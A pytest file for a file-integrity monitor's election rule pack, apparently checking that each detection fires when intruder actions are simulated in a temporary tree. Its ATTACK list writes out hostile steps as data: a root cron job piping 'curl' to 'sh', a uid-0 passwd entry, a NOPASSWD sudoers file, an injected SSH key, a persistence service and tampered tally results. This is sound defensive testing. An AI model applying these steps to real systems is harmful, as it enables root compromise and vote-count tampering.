"""Each file-integrity detection of the election rule pack fires on its attack.

Offline: a tree laid out like the reference site (config.example.yaml's watched
paths and tags, re-rooted under a temporary folder) gets `sentinel baseline
init`, then an intruder's file operations, then `sentinel baseline verify`, which
reports what changed while nobody watched. Live: the FIM source itself
(`build_fim_source`) watches the tree and the pack's engine reads its events.
"""

from __future__ import annotations

import os
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from scenariokit import EXAMPLE_CONFIG, T0, FimSite, Live, by_path

from sentinel.alert import SEVERITY_RANK, Alert
from sentinel.config_reader import load_config
from sentinel.sinks.router import Route


def append(p: Path, data: bytes) -> None:
    with open(p, "ab") as f:
        f.write(data)


def new_file(p: Path, data: bytes, mode: int = 0o644) -> None:
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    p.chmod(mode)


#: What an intruder does while sentinel is down: (site path, operation).
ATTACK: list[tuple[str, Callable[[Path], object]]] = [
    ("/opt/tally/bin/tally", lambda p: p.write_bytes(b"\x7fELF tally that counts wrong\n")),
    ("/opt/tally/bin/tally-export", lambda p: p.unlink()),
    ("/etc/tally/app.conf", lambda p: append(p, b"central = https://198.51.100.9/upload\n")),
    ("/var/lib/tally/results/tps-001.json", lambda p: p.write_bytes(b'{"tps": 1, "a": 20}\n')),
    ("/var/lib/tally/results/tps-002.json", lambda p: p.unlink()),
    ("/etc/passwd", lambda p: append(p, b"svc:x:0:0::/root:/bin/bash\n")),
    ("/etc/sudoers.d/90-svc", lambda p: new_file(p, b"svc ALL=(ALL) NOPASSWD: ALL\n", 0o440)),
    ("/root/.ssh/authorized_keys", lambda p: append(p, b"ssh-ed25519 AAAAC3Nzb intruder\n")),
    ("/etc/cron.d/sync", lambda p: new_file(p, b"*/5 * * * * root curl -s x | sh\n")),
    ("/etc/systemd/system/updater.service",
     lambda p: new_file(p, b"[Service]\nExecStart=/tmp/.u\n")),
    ("/var/lib/tally/results/.cache/run", lambda p: new_file(p, b"#!/bin/sh\nid\n", 0o755)),
    ("/etc/systemd/system/tally.service", lambda p: p.chmod(0o2644)),
    ("/etc/tally/ca.pem", lambda p: p.chmod(0o666)),
    ("/var/lib/tally/results/tps-003.json", lambda p: new_file(p, b'{"tps": 3}\n')),
]

#: Site path -> (detection, rule, severity, kind) of the one alert it must raise.
EXPECTED: dict[str, tuple[str, str, str, str]] = {
    "/opt/tally/bin/tally": ("d11", "tally-binary-tampered", "critical", "fim.modified"),
    "/opt/tally/bin/tally-export": ("d11", "tally-binary-tampered", "critical", "fim.deleted"),
    "/etc/tally/app.conf": ("d12", "tally-config-changed", "high", "fim.modified"),
    "/var/lib/tally/results/tps-001.json": ("d13", "tally-results-altered", "critical",
                                            "fim.modified"),
    "/var/lib/tally/results/tps-002.json": ("d13", "tally-results-altered", "critical",
                                            "fim.deleted"),
    "/etc/passwd": ("d14", "accounts-changed", "high", "fim.modified"),
    "/etc/sudoers.d/90-svc": ("d14", "accounts-changed", "high", "fim.created"),
    "/root/.ssh/authorized_keys": ("d15", "ssh-access-changed", "high", "fim.modified"),
    "/etc/cron.d/sync": ("d16", "persistence-cron-or-service", "high", "fim.created"),
    "/etc/systemd/system/updater.service": ("d16", "persistence-cron-or-service", "high",
                                            "fim.created"),
    "/var/lib/tally/results/.cache/run": ("d17", "new-executable-or-setuid", "critical",
                                          "fim.created"),
    "/etc/systemd/system/tally.service": ("d17", "new-executable-or-setuid", "critical",
                                          "fim.attrib"),
    "/etc/tally/ca.pem": ("d18", "file-permissions-changed-offline", "high", "fim.attrib"),
    "/var/lib/tally/results/tps-003.json": ("d19", "fim-change-found-offline", "high",
                                            "fim.created"),
    # the folder the intruder made for the executable is a change too
    "/var/lib/tally/results/.cache": ("d19", "fim-change-found-offline", "high", "fim.created"),
}


@pytest.fixture(scope="module")
def offline(tmp_path_factory: pytest.TempPathFactory) -> tuple[FimSite, int, list[dict[str, Any]]]:
    site = FimSite(tmp_path_factory.mktemp("offline"))
    site.init()
    for path, op in ATTACK:
        op(site.at(path))
    code, alerts, err = site.verify()
    assert code == 1, err
    return site, code, alerts


@pytest.mark.parametrize("path", list(EXPECTED), ids=[f"{v[0]}-{k}" for k, v in EXPECTED.items()])
def test_offline_change_raises_its_alert(
        path: str, offline: tuple[FimSite, int, list[dict[str, Any]]]) -> None:
    site, _, alerts = offline
    _, rule, severity, kind = EXPECTED[path]
    got = by_path(alerts).get(str(site.at(path)), [])
    assert [(a["rule"], a["severity"], a["event"]["kind"]) for a in got] == \
        [(rule, severity, kind)]
    alert = got[0]
    assert alert["event"]["offline"] is True
    assert alert["source"] == "fim" and "fim" in alert["tags"]
    assert alert["description"] and "{" not in alert["description"]


def test_every_offline_change_is_one_alert_at_least_high_and_says_offline(
        offline: tuple[FimSite, int, list[dict[str, Any]]]) -> None:
    """Detection 19: changes made while sentinel was down are each reported once, with
    'found offline' in the title and a severity of high or more."""
    site, _, alerts = offline
    assert sorted(a["event"]["path"] for a in alerts) == sorted(str(site.at(p)) for p in EXPECTED)
    for a in alerts:
        assert "found offline" in a["title"], a["title"]
        assert SEVERITY_RANK[a["severity"]] >= SEVERITY_RANK["high"], a["rule"]


def test_tampered_baseline_is_critical_and_reaches_both_webhook_targets(
        tmp_path: Path, example_secrets: dict[str, str]) -> None:
    """Detection 20: a baseline that fails its signature is one critical alert, routed by
    config.example.yaml to both the supervisory body and the ministry."""
    site = FimSite(tmp_path)
    site.init()
    # an intruder hides a file from the checks by dropping its record
    db = sqlite3.connect(site.state / "baseline.db")
    assert db.execute("DELETE FROM files WHERE path = ?",
                      (os.fsencode(site.at("/opt/tally/bin/tally")),)).rowcount == 1
    db.commit()
    db.close()
    code, alerts, err = site.verify()
    assert code == 2, err
    assert [(a["rule"], a["severity"], a["event"]["kind"]) for a in alerts] == \
        [("fim-baseline-invalid", "critical", "fim.baseline_invalid")]
    a = alerts[0]
    alert = Alert(rule=a["rule"], title=a["title"], severity=a["severity"], time=0.0,
                  host=a["host"], source=a["source"], tags=tuple(a["tags"]), event=a["event"],
                  count=a["count"], id=a["id"])
    routes = {h.name: Route(h) for h in load_config(EXAMPLE_CONFIG).outputs.webhooks}
    assert {name: route(alert) for name, route in routes.items()} == \
        {"bawaslu": True, "ministry-csirt": True}


# -- live -------------------------------------------------------------------------------


@pytest.fixture
def counting_live(tmp_path: Path) -> Any:
    """The live source with its clock inside the reference site's counting window."""
    lv = Live(FimSite(tmp_path), clock_at=T0)
    lv.source.start(lv.emit)
    yield lv
    lv.source.stop()


def test_live_config_change_in_counting_window_is_critical(counting_live: Live) -> None:
    """Detection 12: the same change is critical inside the counting window; live, the
    title does not claim it was found offline."""
    conf = counting_live.site.at("/etc/tally/app.conf")
    # a new version written elsewhere and renamed over the old one (staged outside the
    # watched tree, so that no scheduling delay can make the staging file a change too)
    tmp = counting_live.site.root.parent / "app.conf.new"
    tmp.write_bytes(conf.read_bytes() + b"threshold = 1\n")
    os.rename(tmp, conf)
    counting_live.barrier()
    alerts = counting_live.alerts()
    assert [(a.rule, a.severity, a.event["path"]) for a in alerts] == \
        [("tally-config-changed", "critical", str(conf))]
    assert "found offline" not in alerts[0].title
    assert alerts[0].event["offline"] is False


def test_live_binary_replaced_and_permissions_loosened(counting_live: Live) -> None:
    """Detections 11 and 18 live: a binary replaced by rename is critical; a loosened
    mode on a config file is medium while sentinel watches."""
    site = counting_live.site
    binary = site.at("/opt/tally/bin/tally")
    staged = site.root.parent / "tally.new"  # outside the watched tree, as above
    staged.write_bytes(b"\x7fELF trojan\n")
    staged.chmod(0o755)
    os.rename(staged, binary)
    site.at("/etc/tally/ca.pem").chmod(0o666)
    counting_live.barrier()
    got = {(a.rule, a.severity, a.event["path"], a.event["kind"])
           for a in counting_live.alerts()}
    assert got == {
        ("tally-binary-tampered", "critical", str(binary), "fim.modified"),
        ("file-permissions-changed", "medium", str(site.at("/etc/tally/ca.pem")), "fim.attrib"),
    }


# -- excludes never hide what can run (#15.11) ---------------------------------------------


#: Made by an intruder under the reference exclude ``*.tmp``: (site path, data, mode).
TMP_IMPLANTS: list[tuple[str, bytes, int]] = [
    ("/opt/tally/bin/x.tmp", b"\x7fELF implant\n", 0o755),
    ("/etc/tally/y.tmp", b"#!/bin/sh\nid\n", 0o4644),
    ("/var/lib/tally/results/stash.tmp/run", b"#!/bin/sh\nid\n", 0o755),
]
#: Made under the same exclude and rightly not reported: it cannot run.
TMP_HARMLESS = ("/etc/tally/edit.tmp", "/var/lib/tally/results/stash.tmp/notes")


def _plant_tmp(site: FimSite) -> None:
    for path, data, mode in TMP_IMPLANTS:
        new_file(site.at(path), data, mode)
    for path in TMP_HARMLESS:
        new_file(site.at(path), b"scratch\n")


def _tmp_findings(site: FimSite, alerts: list[dict[str, Any]]) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for a in alerts:
        found.setdefault(site.site_path(a["event"]["path"]), set()).add(a["rule"])
    return found


def test_offline_excluded_names_do_not_hide_executables_or_their_folder(tmp_path: Path) -> None:
    """With exclude ``*.tmp`` (the reference config): an executable or setuid ``x.tmp`` and
    a folder ``stash.tmp/`` with a program in it are reported by `baseline verify`; a
    plain ``.tmp`` file is not."""
    site = FimSite(tmp_path)
    assert "*.tmp" in load_config(site.config).fim.exclude
    site.init()
    _plant_tmp(site)
    code, alerts, err = site.verify()
    assert code == 1, err
    found = _tmp_findings(site, alerts)
    for path, _, _ in TMP_IMPLANTS:
        assert "new-executable-or-setuid" in found.get(path, set()), (path, found)
    assert "/var/lib/tally/results/stash.tmp" in found
    assert not set(TMP_HARMLESS) & set(found)


def test_live_excluded_names_do_not_hide_executables_or_their_folder(
        counting_live: Live) -> None:
    """The same, live: and a plain ``.tmp`` file made executable later is reported then."""
    site = counting_live.site
    _plant_tmp(site)
    counting_live.barrier()
    found = _tmp_findings(site, [a.to_dict() for a in counting_live.alerts()])
    for path, _, _ in TMP_IMPLANTS:
        assert "new-executable-or-setuid" in found.get(path, set()), (path, found)
    # the folder is reported (no rule of the pack alerts on a new folder live)
    stash = str(site.at("/var/lib/tally/results/stash.tmp"))
    assert [e.kind for e in counting_live.snapshot() if e.fields["path"] == stash] == \
        ["fim.created"]
    assert not set(TMP_HARMLESS) & set(found)
    site.at(TMP_HARMLESS[0]).chmod(0o755)
    counting_live.barrier()
    found = _tmp_findings(site, [a.to_dict() for a in counting_live.alerts()])
    assert "new-executable-or-setuid" in found.get(TMP_HARMLESS[0], set()), found
